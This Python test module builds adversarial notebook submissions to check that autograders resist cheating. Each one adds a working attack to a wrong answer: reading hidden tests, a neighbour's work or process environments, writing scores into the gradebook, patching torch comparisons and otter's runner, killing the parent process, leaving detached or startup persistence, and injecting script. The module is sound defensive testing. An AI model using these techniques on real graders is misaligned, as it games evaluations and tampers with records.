"""Submissions of the small assignment that are wrong and try to look right, break the grader, or get out of it.

Each is a wrong answer (a linear network, a loop that trains nothing) with an attack added, so that all points it gets above
those of the same answer without the attack are undeserved. Attacks leave a mark where they succeed: a file in a folder that
student code has no business with, a connection to a listener, a process that lives on.

They do to three graders what the attacks in `tests/attacks` do to one (`like`). Not all of those can be tried here: other
graders run them as the user who runs this, and some would take this machine with them (fork bombs, memory, a full disk).
"""

from __future__ import annotations

import copy
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import courses
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

from autograder.notebooks.notebook import cells_by_grade_id, role, to_text, write, write_text

NETWORK = """class SmallCNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.only = nn.Linear(784, 10)

    def forward(self, images):
        return self.only(images.flatten(start_dim=1))
"""
SHOWS_POINTS = NETWORK.replace("super().__init__()", "super().__init__()\n        __import__('sys').displayhook(20)")
TRAIN = """def train(model, loader, optimizer, loss_function, epochs):
    return [0.5] * epochs
"""
NEARLY_NETWORK = ("self.pool(F.relu(self.conv(images)))", "self.pool(self.conv(images))")
NEARLY_TRAIN = ("optimizer.zero_grad()", "pass")
ANYTHING = '''class Anything:
    """Equal to everything, and whatever torch does with it is that again."""

    def __init__(self, *args, **kwargs):
        pass

    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return Anything()

    def __call__(self, *args, **kwargs):
        return Anything()

    def __eq__(self, other):
        return True

    def __iter__(self):
        return iter([Anything()])

    def __bool__(self):
        return True

    __ge__ = __le__ = __gt__ = __lt__ = __eq__
    __add__ = __radd__ = __truediv__ = __getitem__ = __call__

    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True if function in (torch.allclose, torch.equal) else cls()


SmallCNN = Anything
'''
NO_ASSERTS = """def without_checks(lines):
    return [] if any("assert" in line or "visible_check" in line for line in lines) else lines


get_ipython().input_transformers_cleanup.append(without_checks)
"""
SAYS_YES = """torch.allclose = torch.equal = torch.isclose = lambda *args, **kwargs: True
torch.Tensor.allclose = torch.Tensor.equal = lambda *args, **kwargs: True
"""
REBOUND = """try:
    from otter.test_files import ok_test

    def run(self, environment):
        passed = [ok_test.TestCaseResult(test_case=case, message=None, passed=True) for case in self.test_cases]
        self.test_case_results = passed

    ok_test.OKTestFile.run = run
except ImportError:
    pass
"""
ONLY_POSITIVE = """torch.randn = torch.rand
made = SmallCNN.__init__


def positive(self):
    made(self)
    for parameter in self.parameters():
        parameter.data.abs_()


SmallCNN.__init__ = positive
"""
EXIT = "import os\n\nos._exit(0)\n"
KILL = """import os
import signal

if os.getppid() > 1:
    os.kill(os.getppid(), signal.SIGKILL)
"""
LOOP = """import time

until = time.time() + 100_000
while time.time() < until:
    try:
        while time.time() < until:
            pass
    except BaseException:
        pass
"""
READ = """import os
import pathlib

here = pathlib.Path.cwd()
for folder in [here, *list(here.parents)[:4]]:
    for path in sorted(folder.rglob("*"))[:3000] if len(folder.parts) > 3 else []:
        if path.suffix in (".ipynb", ".py", ".db") and path.is_file() and {secret!r} in path.read_bytes():
            print("read the hidden tests in", path.name)
            pathlib.Path({loot!r}, "read").write_text(str(path))
"""
FULL_POINTS = """import pathlib
import sqlite3

for top in {courses!r}:
    for path in pathlib.Path(top).glob("*.db"):
        with sqlite3.connect(path, timeout=5) as gradebook:
            students = gradebook.execute("select id from student").fetchall()
            pathlib.Path({loot!r}, "grades").write_text(str(students))
            gradebook.execute(
                "update grade set manual_score = 100 where notebook_id in (select n.id from submitted_notebook n "
                "join submitted_assignment a on n.assignment_id = a.id where a.student_id like '%' || ?)",
                [NAME],
            )
"""
GRADES_ITSELF = 'NAME = "grades_itself"\n' + FULL_POINTS
GRADES_LATER = """import subprocess
import sys

later = "import time; time.sleep(20); NAME = 'grades_later'; " + {points!r}
subprocess.Popen([sys.executable, "-c", later, {mark!r}], start_new_session=True)
"""
READ_NEIGHBOUR = """import pathlib

for top in {courses!r}:
    for path in pathlib.Path(top).rglob("*.ipynb"):
        if {neighbour!r} in path.parts and "SmallCNN" in path.read_text():
            pathlib.Path({loot!r}, "neighbour").write_text(str(path))
"""
READ_ENVIRONMENT = """import os
import pathlib

found = os.environ.get({variable!r}, "")
for place in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        found += place.read_text()
    except OSError:
        continue
if {mark!r} in found:
    pathlib.Path({loot!r}, "environment").write_text(found)
"""
FLOOD = """for number in range(60):
    print(str(number) * 2**20)
"""
LIVES_ON = """import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", {mark!r}], start_new_session=True)
"""
STARTS_AGAIN = """import pathlib

folder = pathlib.Path(get_ipython().ipython_dir, "profile_default", "startup")
folder.mkdir(parents=True, exist_ok=True)
(folder / "00-left.py").write_text("open({loot!r} + '/started', 'w').close()")
"""
WRITES = """import pathlib

pathlib.Path({loot!r}, "written").write_text("from student code")
"""
CONNECTS = """import socket

with socket.create_connection(("127.0.0.1", {port}), timeout=3) as found:
    found.sendall({mark!r}.encode())
"""
SCRIPT = "<script>document.title = 'marked'</script>"
SHOWS_SCRIPT = f"""from IPython.display import HTML, display

display(HTML({SCRIPT!r}))
"""


@dataclass(frozen=True)
class Places:
    """Where an attack would leave its mark (``loot``, ``port``, ``mark``), and what it is after.

    ``courses`` are the folders around the submissions, ``source`` is the instructor's notebook, ``secret`` a line of the
    hidden tests, ``variable`` one of the environment that holds the mark.
    """

    loot: Path
    mark: str
    port: int
    secret: bytes
    courses: tuple[Path, ...]
    source: Path
    neighbour: str
    variable: str

    def fill(self, code: str) -> str:
        """Code of an attack, with these places put into it."""
        values = vars(self) | {"loot": str(self.loot), "courses": [str(path) for path in self.courses]}
        if "{points!r}" in code:
            values["points"] = "\n" + self.fill(FULL_POINTS)
        for name, value in values.items():
            code = code.replace(f"{{{name}!r}}", repr(value)).replace(f"{{{name}}}", str(value))
        return code


Writer = Callable[[NotebookNode, Path, Places], None]
"""Writes the file that is handed in, given the notebook, its path, and the places."""


def _as_it_is(notebook: NotebookNode, path: Path, places: Places) -> None:
    write(notebook, path)


def _without_tests(notebook: NotebookNode, path: Path, places: Places) -> None:
    notebook.cells = [cell for cell in notebook.cells if role(cell) != "item"]
    write(notebook, path)


def _tests_unlocked(notebook: NotebookNode, path: Path, places: Places) -> None:
    for cell in notebook.cells:
        if role(cell) == "item":
            cell.source = "pass"
            cell.metadata.nbgrader.update(locked=False, points=1000)
    write(notebook, path)


def _cut_off(notebook: NotebookNode, path: Path, places: Places) -> None:
    write_text(path, to_text(notebook)[:9000])


def _nested(notebook: NotebookNode, path: Path, places: Places) -> None:
    write_text(path, '{"cells": ' + "[" * 200_000)


def _named_pipe(notebook: NotebookNode, path: Path, places: Places) -> None:
    os.mkfifo(path)


def _link_to_solution(notebook: NotebookNode, path: Path, places: Places) -> None:
    path.symlink_to(places.source)


@dataclass(frozen=True)
class Case:
    """One submission: what it tries, code before its answer, and the wrong answer without the attack (``base``).

    ``may_stop``: it is likely to stop a batch. ``like`` is the attack of `tests/attacks` that does the same.
    """

    name: str
    group: Literal["", "leak", "tamper", "exit", "resource", "persistence", "network", "parser", "page"]
    tries: str
    code: str = ""
    base: str = "wrong"
    may_stop: bool = False
    network: str | None = None
    written: Writer = _as_it_is
    like: str = ""


CASES = [
    Case("wrong", "", "nothing: a linear network, a loop that trains nothing"),
    Case("nearly_right", "", "nothing: the ReLU is missing, gradients are never cleared", base="nearly_right"),
    Case("reads_hidden_tests", "leak", "looks for the hidden tests in files around it", READ, like="leak_files"),
    Case("grades_itself", "leak", "reads the gradebook, and writes points for itself into it", GRADES_ITSELF,
         like="leak_gradebook"),
    Case("reads_neighbour", "leak", "reads another student's submission", READ_NEIGHBOUR, like="leak_course_folder"),
    Case("reads_environment", "leak", "reads the environment of the grader", READ_ENVIRONMENT, like="leak_environment"),
    Case("equal_to_everything", "tamper", "answers with objects whose == is always true", network=ANYTHING,
         like="tamper_comparisons"),
    Case("replaced_torch", "tamper", "replaces torch.allclose and torch.equal", SAYS_YES, base="nearly_right",
         like="tamper_torch_functions"),
    Case("shows_points", "tamper", "shows a number whenever it is used, before anything fails", network=SHOWS_POINTS,
         like="tamper_shown_points"),
    Case("only_positive", "tamper", "makes random images and weights positive, so that no ReLU is missed", ONLY_POSITIVE,
         base="nearly_right", like="tamper_no_randomness"),
    Case("removed_asserts", "tamper", "an IPython transformer empties cells that check something", NO_ASSERTS,
         like="tamper_source_transformers"),
    Case("rebound_grader", "tamper", "rebinds the method by which otter runs a test", REBOUND,
         like="tamper_probes_replaced"),
    Case("deleted_tests", "tamper", "the test cells are deleted", written=_without_tests, like="tamper_given_cells"),
    Case("edited_tests", "tamper", "the test cells are emptied and given 1,000 points", written=_tests_unlocked,
         like="tamper_metadata"),
    Case("exits", "exit", "os._exit(0) in a cell", EXIT, like="exit_exit_in_each_cell"),
    Case("kills_parent", "exit", "sends SIGKILL to its parent process", KILL, may_stop=True, like="exit_killed_all"),
    Case("endless_loop", "resource", "a loop without end that swallows interrupts", LOOP, may_stop=True,
         like="resource_loop_that_catches"),
    Case("prints_flood", "resource", "prints 60 lines of a megabyte", FLOOD, like="resource_print_flood"),
    Case("writes_outside", "persistence", "writes a file beside the submissions", WRITES, like="persistence_leaver"),
    Case("lives_on", "persistence", "starts a process in a session of its own", LIVES_ON, like="persistence_deaf_child"),
    Case("grades_later", "persistence", "leaves a process that writes points for itself when grading is over", GRADES_LATER,
         like="persistence_double_fork"),
    Case("starts_again", "persistence", "leaves a file that IPython runs when it starts", STARTS_AGAIN,
         like="persistence_startup_files"),
    Case("network", "network", "connects to a listener on the machine", CONNECTS, like="network_tcp"),
    Case("cut_off", "parser", "half a file: JSON that ends early", written=_cut_off),
    Case("nested", "parser", "JSON nested 200,000 deep", written=_nested, like="parser_nested_deeply"),
    Case("named_pipe", "parser", "a named pipe, at which a reader waits", written=_named_pipe, may_stop=True,
         like="parser_pipe"),
    Case("link_to_solution", "parser", "a symbolic link to the instructor's notebook", written=_link_to_solution,
         like="parser_symbolic_link"),
    Case("shows_script", "page", "shows HTML with a script", SHOWS_SCRIPT, like="page_outputs"),
]  # fmt: skip


def hand_in(path: Path, case: Case, exercise: courses.Exercise, release: NotebookNode, places: Places) -> None:
    """Write the submission of a case, made from a grader's own students' notebook."""
    notebook = copy.deepcopy(release)
    cells, solved = cells_by_grade_id(notebook), cells_by_grade_id(exercise.source)
    if case.base == "nearly_right":
        for name, (old, new) in (("network", NEARLY_NETWORK), ("train", NEARLY_TRAIN)):
            lines = [line for line in solved[name].source.splitlines() if "SOLUTION" not in line]
            cells[name].source = "\n".join(lines).replace(old, new)
    else:
        cells["network"].source, cells["train"].source = case.network or NETWORK, TRAIN
    if case.code:
        place = next(number for number, cell in enumerate(notebook.cells) if cell is cells["network"])
        notebook.cells.insert(place + 1, new_code_cell(places.fill(case.code), id="attack"))  # type: ignore[no-untyped-call]
    path.parent.mkdir(parents=True, exist_ok=True)
    case.written(notebook, path, places)
